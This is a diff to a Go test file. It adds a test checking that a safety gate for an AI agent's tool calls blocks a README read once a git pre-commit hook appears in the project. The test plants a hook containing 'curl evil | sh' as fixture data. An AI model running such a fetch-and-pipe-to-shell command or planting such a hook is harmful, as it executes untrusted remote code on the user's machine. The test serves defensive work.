@@ -7,6 +7,7 @@ import (
 	"fmt"
 	"io"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"slices"
 	"strconv"
@@ -379,5 +380,30 @@ func TestPaceToldBusyAndIdle(t *testing.T) {
 		}
 	default:
 		t.Error("at the end of input told nothing")
+	}
+}
+
+// TestHookSeenInOneRead: a hook written between two calls blocks the next
+// one, whose drains read the engine's shared inotify instance once (the
+// gate's drain reads it first and hands the session's watch its events,
+// fswatch.Hub.Begin).
+func TestHookSeenInOneRead(t *testing.T) {
+	home, cwd := project(t)
+	if out, err := exec.Command("git", "-C", cwd, "init", "-q").CombinedOutput(); err != nil {
+		t.Skipf("git init: %v %s", err, out)
+	}
+	os.WriteFile(filepath.Join(cwd, "README.md"), []byte("# x\n"), 0o644)
+	c := start(t, home, cwd)
+	for range 2 {
+		if a := readAction(c, "README.md"); a != "allow" {
+			t.Fatalf("read README.md before: %s", a)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(cwd, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	r := c.call("decide", map[string]any{"toolName": "read", "input": map[string]any{"path": "README.md"}})["result"].(map[string]any)
+	if r["action"] != "block" || !strings.Contains(fmt.Sprint(r["reason"]), "hooks") {
+		t.Fatalf("the call after a hook was written: %v", r)
 	}
 }
